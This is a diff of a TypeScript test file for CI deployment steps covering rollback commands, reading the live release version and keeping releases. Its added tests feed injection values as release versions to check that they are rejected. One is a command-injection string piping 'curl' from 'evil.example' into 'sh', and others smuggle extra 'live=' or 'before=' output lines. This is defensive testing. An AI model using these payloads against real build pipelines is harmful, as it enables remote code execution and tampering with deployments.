@@ -40,8 +40,8 @@ async function runStep(name: string, environment: Readonly<Record<string, string
 }
 
 describe('the way back', () => {
-  const DEPLOYED = { SITE: 'board-remote', ACTION: '', REMOTE: '', BEFORE: 'abc123' };
-  const PINNED = { SITE: 'shell', ACTION: 'back', REMOTE: 'board', BEFORE: 'abc123' };
+  const DEPLOYED = { SITE: 'board-remote', ACTION: '', REMOTE: '', BEFORE: 'abc1234' };
+  const PINNED = { SITE: 'shell', ACTION: 'back', REMOTE: 'board', BEFORE: 'abc1234' };
 
   test.each([
     ['a deploy that passed', { DEPLOY: 'success', SMOKE: 'success' }, 'board-remote is live.'],
@@ -52,7 +52,7 @@ describe('the way back', () => {
     const { stdout } = await runStep('Print the way back', { ...DEPLOYED, ...results });
     expect(stdout).toContain(state);
     expect(stdout).toContain('gh workflow run pin.yml -f remote=board -f action=back ');
-    expect(stdout).toContain('gh workflow run deploy.yml -f site=board-remote -f ref=abc123 ');
+    expect(stdout).toContain('gh workflow run deploy.yml -f site=board-remote -f ref=abc1234 ');
   });
 
   test('from a pin is to take it off', async () => {
@@ -85,28 +85,52 @@ describe('the way back', () => {
 describe('what was prepared', () => {
   let server: RunningServer;
   let pins = '';
+  let version = '';
   beforeEach(async () => {
     pins = '{}';
+    version = 'abc1234 2026-11-22T18:40:00Z';
     server = await serveOnLocalhost(({ url }, response) => {
       if (url === '/runtime-config.json') response.end(pins);
-      else if (url === '/releases.json')
-        response.end('[{"version":"abc123 2026-11-22T18:40:00Z"}]');
+      else if (url === '/releases.json') response.end(JSON.stringify([{ version }]));
       else response.writeHead(404).end();
     }, 0);
   });
   afterEach(() => server.close());
 
-  const look = () => runStep('Look at what is live', { SITE: 'shell', SHELL_URL: server.origin });
+  const look = (url = server.origin) =>
+    runStep('Look at what is live', { SITE: 'shell', SHELL_URL: url });
+  const output = () => readFileSync(path.join(folder, 'output'), 'utf8');
   const compare = () =>
     runStep('Refuse to undo what went live meanwhile', { LIVE: `${server.origin}/` });
 
   test('is deployed while the live site is as it was then', async () => {
     expect(await look()).toMatchObject({ code: 0 });
-    expect(readFileSync(path.join(folder, 'output'), 'utf8')).toBe(
-      `live=${server.origin}/\nbefore=abc123\n`,
-    );
+    expect(output()).toBe(`live=${server.origin}/\nbefore=abc1234\n`);
     expect(await compare()).toMatchObject({ code: 0 });
   });
+
+  test.each([
+    'abc1234\nlive=https://evil.example/ 2026-11-22T18:40:00Z',
+    'x\nabc1234 2026-11-22T18:40:00Z',
+    'main;curl${IFS}https://evil.example|sh 2026-11-22T18:40:00Z',
+    'abc123',
+    'local',
+  ])('names no commit before it where the live version is %j', async (said) => {
+    version = said;
+    expect(await look()).toMatchObject({ code: 0 });
+    expect(output()).toBe(`live=${server.origin}/\nbefore=\n`);
+  });
+
+  test.each(['', 'laundry', 'https://laundry.example/\nbefore=main'])(
+    'is not prepared where the variable of its address is %j',
+    async (url) => {
+      const { stdout, code } = await look(url);
+      expect([code, stdout]).toEqual([
+        1,
+        '::error::The variables SHELL_URL and RUNTIME_CONFIG have no URL of shell.\n',
+      ]);
+    },
+  );
 
   test('is refused after a pin, which it would undo', async () => {
     await look();
@@ -130,5 +154,33 @@ describe('what was prepared', () => {
     const { stdout } = await promisify(execFile)('bash', args);
     const { predeploy: _, ...shell } = { ...hosting[0], predeploy: '' };
     expect(JSON.parse(stdout)).toEqual({ hosting: [{ ...shell, public: 'ready/dist' }] });
+  });
+});
+
+describe('the releases that a deploy keeps', () => {
+  /** The arguments that the command is started with. */
+  async function argsOf(environment: Readonly<Record<string, string>>): Promise<string> {
+    writeFileSync(path.join(folder, 'npm'), '#!/bin/sh\necho "$@"\n', { mode: 0o755 });
+    const { stdout } = await runStep('Compare with what is live, and keep its last releases', {
+      PATH: `${folder}:${process.env['PATH']}`,
+      SITE: 'board-remote',
+      SHELL_URL: 'https://laundry.example/',
+      LIVE: 'https://board.example/',
+      FIRST: 'false',
+      OLDER: 'false',
+      BREAKING: 'false',
+      ...environment,
+    });
+    return stdout.trim();
+  }
+  const USUAL =
+    'run keep-releases -- board-remote --live https://board.example/ --shell https://laundry.example/';
+
+  test('are those of the address in the configuration', async () => {
+    expect(await argsOf({})).toBe(USUAL);
+  });
+
+  test.each(['first', 'older', 'breaking'])('are %s by hand only', async (input) => {
+    expect(await argsOf({ [input.toUpperCase()]: 'true' })).toBe(`${USUAL} --${input}`);
   });
 });
